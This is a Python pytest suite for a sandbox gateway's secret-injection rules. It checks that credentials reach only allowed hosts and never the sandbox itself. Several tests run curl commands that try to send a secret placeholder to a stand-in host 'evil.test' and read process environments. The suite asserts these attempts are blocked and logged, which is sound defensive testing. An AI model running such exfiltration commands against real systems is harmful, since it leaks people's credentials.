"""Header rules through the unchanged SDK, on a complete system in an internet of the tests: who gets which secret."""

from __future__ import annotations

import json
import re
import shutil
import subprocess
import tempfile
import time
import urllib.error
from pathlib import Path
from typing import TYPE_CHECKING, Any

import httpx
import pytest
from e2b import AsyncSandbox, CommandExitException, Sandbox, Secret
from joserfc import jwk
from joserfc import jwt as checker

from tests.live import ROOT, running_stack

if TYPE_CHECKING:
    from collections.abc import Callable, Iterator

    from tests.internet.sites import Request
    from tests.internet.world import Internet
    from tests.live import Stack

SCOPES = (
    *("sandboxes:read", "sandboxes:write", "sandboxes:use", "networks:read", "networks:write"),
    *("secrets:read", "secrets:write", "audit:read", "risk:read", "risk:write", "tokens:read", "tokens:write"),
)
API, PLAIN, EVIL = "api.allowed.test", "plain.allowed.test", "evil.test"
FIRST, SECOND = "sk-alices-first-value-4711", "sk-alices-second-value-4712"


@pytest.fixture(scope="module")
def injecting(one_internet: Internet) -> Iterator[Stack]:
    """A Gatehouse whose only tenant may reach the whole internet of the tests, and has the secret `api-key`."""
    with tempfile.NamedTemporaryFile("w", dir="/var/tmp", suffix=".pem") as authorities:
        Path(authorities.name).write_text(one_internet.authority.pem, encoding="ascii")
        # Egress is another user.
        Path(authorities.name).chmod(0o644)
        settings: Any = one_internet.settings() | {"GATEHOUSE_EGRESS_CA_FILE": authorities.name}
        with running_stack(**settings) as running:
            running.manage("networkpolicy", "ceiling", "default", "--public-internet")
            scopes = [f"--scope={scope}" for scope in SCOPES]
            made = running.manage("apikey", "create", "--tenant", "default", "--name", "all", *scopes)
            running.key = made.stdout.strip()
            Secret.create("api-key", FIRST, api_key=running.key, api_url=running.url)
            yield running


@pytest.fixture
def internet(one_internet: Internet) -> Internet:
    """The internet with nothing recorded."""
    one_internet.reset()
    return one_internet


@pytest.fixture(params=["base", "base-process"])
def template(request: pytest.FixtureRequest) -> str:
    """The templates of both tiers."""
    return str(request.param)


def setting(**headers: str) -> Any:
    return [{"transform": {"headers": headers}}]


def curl(box: Sandbox, url: str, *options: str) -> str:
    """Return what curl says inside, also where it fails; it checks certificates by what the sandbox believes."""
    command = f"curl -sS --max-time 20 {' '.join(options)} {url}"
    try:
        return box.commands.run(command).stdout
    except CommandExitException as error:
        return f"{error.stdout}\n{error.stderr}"


def taken(internet: Internet) -> list[Request]:
    return internet.sites.requests()


def until(condition: Callable[[], Any], seconds: float = 20) -> Any:
    """Return what a condition comes to once it holds."""
    end = time.monotonic() + seconds
    while not (value := condition()):
        assert time.monotonic() < end, value
        time.sleep(0.1)
    return value


def events(stack: Stack, sandbox_id: str, code: str) -> list[dict[str, Any]]:
    found: list[dict[str, Any]] = stack.rest("GET", f"sandboxes/{sandbox_id}/events?code={code}")["items"]
    return found


@pytest.fixture
def ruled(injecting: Stack, template: str) -> Iterator[Sandbox]:
    """A sandbox whose requests to one host carry the secret."""
    rules = {API: setting(Authorization=f"Bearer {Secret.fill('api-key')}", **{"X-Team": "red"})}
    box = Sandbox.create(template, timeout=120, network={"rules": rules}, **injecting.sdk)
    yield box
    box.kill()


def test_the_host_gets_the_secret_and_the_sandbox_never_has_it(
    injecting: Stack, internet: Internet, ruled: Sandbox
) -> None:
    said = curl(ruled, f"https://{API}/v1/models?q=1", "-H 'Authorization: Bearer mine'", "-v")

    assert taken(internet), said
    (request,) = taken(internet)
    assert request.headers["authorization"] == f"Bearer {FIRST}"
    assert (request.headers["x-team"], request.target) == ("red", "/v1/models?q=1")
    assert FIRST not in said
    assert FIRST not in ruled.commands.run("env; cat /proc/*/environ 2>/dev/null | tr '\\0' '\\n'").stdout
    info = httpx.get(f"{injecting.url}/sandboxes/{ruled.sandbox_id}", headers={"X-API-KEY": injecting.key}).json()
    assert info["network"]["rules"][API] == setting(Authorization="Bearer ${e2b.secrets.api-key}", **{"X-Team": "red"})
    (event,) = until(lambda: events(injecting, ruled.sandbox_id, "secret.injected"))
    assert event["details"]["names"] == ["api-key"]
    assert (event["details"]["method"], event["details"]["path"]) == ("GET", "/v1/models")


@pytest.mark.parametrize(
    "client",
    [
        f"python3 -c \"import urllib.request as u; print(u.urlopen('https://{API}/x').status)\"",
        f"python3 -c \"import requests; print(requests.get('https://{API}/x').status_code)\"",
        f"node -e \"fetch('https://{API}/x').then(r => console.log(r.status))\"",
        f"git ls-remote https://{API}/x.git || true",
    ],
    ids=["urllib", "requests", "fetch", "git"],
)
def test_usual_clients_need_no_setting_up(internet: Internet, ruled: Sandbox, client: str) -> None:
    done = ruled.commands.run(f"{client} || true", timeout=60)

    if "not found" in done.stderr or "No module named" in done.stderr:
        assert not taken(internet)
        return
    assert taken(internet)[0].headers["authorization"] == f"Bearer {FIRST}", done.stderr


def test_plain_http_gets_it_too(internet: Internet, injecting: Stack) -> None:
    rules = {PLAIN: setting(Authorization=Secret.fill("api-key"))}
    box = Sandbox.create(timeout=120, network={"rules": rules}, **injecting.sdk)
    try:
        curl(box, f"http://{PLAIN}/x")
        assert taken(internet)[0].headers["authorization"] == FIRST
    finally:
        box.kill()


def test_other_hosts_get_nothing(internet: Internet, ruled: Sandbox) -> None:
    curl(ruled, f"http://{PLAIN}/x")
    curl(ruled, f"https://{EVIL}/x", "-k")

    assert {request.headers["host"] for request in taken(internet)} == {PLAIN, EVIL}
    assert all("authorization" not in request.headers for request in taken(internet))


def test_a_rule_opens_nothing(internet: Internet, injecting: Stack) -> None:
    network: Any = {"rules": {API: setting(A=Secret.fill("api-key"))}, "allow_out": [PLAIN], "deny_out": ["0.0.0.0/0"]}
    box = Sandbox.create(timeout=120, network=network, **injecting.sdk)
    try:
        curl(box, f"https://{API}/x")
        assert not taken(internet)
        assert not events(injecting, box.sandbox_id, "secret.injected")
    finally:
        box.kill()


def test_a_new_value_is_sent_with_the_next_request(internet: Internet, injecting: Stack, ruled: Sandbox) -> None:
    try:
        Secret.update("api-key", SECOND, api_key=injecting.key, api_url=injecting.url)
        curl(ruled, f"https://{API}/x")
        assert taken(internet)[0].headers["authorization"] == f"Bearer {SECOND}"
    finally:
        Secret.update("api-key", FIRST, api_key=injecting.key, api_url=injecting.url)


def test_rules_are_swapped_while_it_runs(internet: Internet, ruled: Sandbox) -> None:
    ruled.update_network({"rules": {EVIL: setting(**{"X-Key": Secret.fill("api-key")})}})

    curl(ruled, f"https://{API}/x", "-k")
    curl(ruled, f"https://{EVIL}/x")
    first, second = taken(internet)
    assert "authorization" not in first.headers
    assert (second.headers["host"], second.headers["x-key"]) == (EVIL, FIRST)

    ruled.update_network({})
    curl(ruled, f"https://{EVIL}/x", "-k")
    assert "x-key" not in taken(internet)[-1].headers


def test_an_unknown_secret_fails_at_the_request_and_not_before(
    internet: Internet, injecting: Stack, template: str
) -> None:
    rules = {API: setting(Authorization=Secret.fill("not-there"))}
    box = Sandbox.create(template, timeout=120, network={"rules": rules}, **injecting.sdk)
    try:
        said = curl(box, f"https://{API}/x")
        assert "secret" in said.lower()
        assert not taken(internet)
        (refused,) = until(lambda: events(injecting, box.sandbox_id, "secret.inject_refused"))
        assert (refused["reason"], refused["details"]["names"]) == ("secret_missing", ["not-there"])
    finally:
        box.kill()


def bearer_of_aws(context: Any) -> Any:
    return {"headers": {"Authorization": f"Bearer {context.iam.tokens['aws']}"}}


def test_an_identity_is_one_that_its_host_can_check(internet: Internet, injecting: Stack, template: str) -> None:
    box = Sandbox.create(
        template,
        timeout=120,
        iam={"tokens": {"aws": Secret.iam_token(audience="sts.allowed.test", token_type="JWT-SVID")}},
        network={
            "rules": {
                API: [{"transform": lambda ctx: {"headers": {"Authorization": f"Bearer {ctx.iam.tokens['aws']}"}}}]
            }
        },
        **injecting.sdk,
    )
    try:
        curl(box, f"https://{API}/sts")
        curl(box, f"https://{API}/sts")
        tokens = [request.headers["authorization"].removeprefix("Bearer ") for request in taken(internet)]
        configuration = httpx.get(f"{injecting.url}/.well-known/openid-configuration").json()
        known = jwk.KeySet.import_key_set(httpx.get(configuration["jwks_uri"]).json())
        claims = [checker.decode(token, known, algorithms=["ES256"]).claims for token in tokens]
        registry = checker.JWTClaimsRegistry(
            iss={"essential": True, "value": injecting.url},
            aud={"essential": True, "value": "sts.allowed.test"},
            exp={"essential": True},
        )
        for one in claims:
            registry.validate(one)
            assert re.fullmatch(rf"tenant:[0-9a-f]{{32}}:template:\w+:sandbox:{box.sandbox_id}", one["sub"])
        assert claims[0]["jti"] != claims[1]["jti"]
        minted = until(lambda: events(injecting, box.sandbox_id, "identity.minted"))
        assert {one["details"]["jti"] for one in minted} == {one["jti"] for one in claims}
    finally:
        box.kill()


def test_a_placeholder_is_swapped_on_its_way(internet: Internet, injecting: Stack, template: str) -> None:
    body = {"template": template, "secrets": {"OPENAI_API_KEY": {"secret": "api-key", "hosts": [API]}}}
    made = injecting.rest("POST", "sandboxes", body)["id"]
    box = Sandbox.connect(made, timeout=120, **injecting.sdk)
    try:
        inside = box.commands.run("echo $OPENAI_API_KEY").stdout.strip()
        assert re.fullmatch(r"sk-sbxph_[A-Za-z0-9]{40}", inside)

        curl(box, f"https://{API}/x", '-H "Authorization: Bearer $OPENAI_API_KEY"')
        curl(box, f"https://{API}/x", '-u "user:$OPENAI_API_KEY"')

        bearer, basic = (request.headers["authorization"] for request in taken(internet))
        assert bearer == f"Bearer {FIRST}"
        assert httpx.BasicAuth("user", FIRST)._auth_header == basic
    finally:
        box.kill()


@pytest.mark.parametrize(
    "options",
    [
        '-H "Authorization: Bearer $OPENAI_API_KEY"',
        '-u "user:$OPENAI_API_KEY"',
        '-d "key=$OPENAI_API_KEY"',
    ],
    ids=["header", "basic", "body"],
)
def test_a_placeholder_sent_elsewhere_is_blocked_and_grave(internet: Internet, injecting: Stack, options: str) -> None:
    made = injecting.rest("POST", "sandboxes", {"secrets": {"OPENAI_API_KEY": {"secret": "api-key", "hosts": [API]}}})
    box = Sandbox.connect(made["id"], timeout=120, **injecting.sdk)
    try:
        said = curl(box, f"http://{EVIL}/x", options)

        assert "secret_elsewhere" in said or "placeholder" in said
        assert not any(b"sbxph_" in one.received for one in internet.sites.connections)
        (attempt,) = until(lambda: events(injecting, box.sandbox_id, "secret.exfil_attempt"))
        assert (attempt["severity"], attempt["details"]["host"], attempt["risk_score"]) == ("critical", EVIL, 85)
        assert attempt["details"]["secret_name"] == "api-key"
    finally:
        box.kill()


def test_nothing_goes_out_while_the_control_plane_is_away(internet: Internet, injecting: Stack, ruled: Sandbox) -> None:
    script = f"""for round in $(seq 100); do
        curl -s -o /dev/null -w '%{{http_code}}\\n' --max-time 10 https://{API}/x; sleep 0.1
    done"""
    seen = ""
    running = ruled.commands.run(script, background=True, timeout=0)

    injecting.kill("web")
    for out, _, _ in running:
        seen += out or ""
        if seen.count("\n") > 15 and injecting.answers():
            break
    running.kill()
    injecting.wait_until_answers()

    assert set(seen.split()) <= {"200", "503", "000"}
    assert len(taken(internet)) >= seen.split().count("200")
    assert all(request.headers["authorization"] == f"Bearer {FIRST}" for request in taken(internet))


def test_rules_live_through_a_pause(internet: Internet, injecting: Stack, ruled: Sandbox) -> None:
    ruled.pause()
    again = Sandbox.connect(ruled.sandbox_id, timeout=120, **injecting.sdk)

    curl(again, f"https://{API}/x")

    assert taken(internet)[0].headers["authorization"] == f"Bearer {FIRST}"


async def test_the_async_sdk_injects_as_well(internet: Internet, injecting: Stack) -> None:
    rules = {API: setting(Authorization=Secret.fill("api-key"))}
    box = await AsyncSandbox.create(timeout=120, network={"rules": rules}, **injecting.sdk)
    try:
        await box.commands.run(f"curl -sS --max-time 20 https://{API}/x")
        assert taken(internet)[0].headers["authorization"] == FIRST
        await box.update_network({"rules": {}})
        await box.commands.run(f"curl -sSk --max-time 20 https://{API}/x")
        assert "authorization" not in taken(internet)[1].headers
    finally:
        await box.kill()


def test_the_javascript_sdk_injects_as_well(internet: Internet, injecting: Stack) -> None:
    assert shutil.which("node")
    suite = ROOT / "tests" / "sdk" / "js"
    environment = {
        "PATH": "/usr/bin:/bin",
        "E2B_API_KEY": injecting.key,
        "E2B_API_URL": injecting.url,
        "E2B_SANDBOX_URL": injecting.url,
    }
    done = subprocess.run(
        ["node", str(suite / "injects.mjs"), API],
        cwd=suite,
        env=environment,
        capture_output=True,
        text=True,
        check=False,
    )
    assert done.returncode == 0, done.stdout + done.stderr
    said = json.loads(done.stdout)
    first, second = taken(internet)
    assert first.headers["authorization"] == f"Bearer {FIRST}"
    assert first.headers["x-identity"].count(".") == 2
    assert "authorization" not in second.headers
    assert said == {"hasSecret": False}


def test_a_malformed_placeholder_is_refused_by_the_sdk_s_error(injecting: Stack) -> None:
    with pytest.raises(Exception, match="malformed E2B placeholder"):
        Sandbox.create(network={"rules": {API: setting(A="${e2b.secrets.}")}}, **injecting.sdk)


def test_internal_routes_are_not_public(injecting: Stack, ruled: Sandbox) -> None:
    with pytest.raises(urllib.error.HTTPError, match="404"):
        injecting.rest("POST", f"../../internal/v1/sandboxes/{ruled.sandbox_id}/credentials", {"generation": 1})
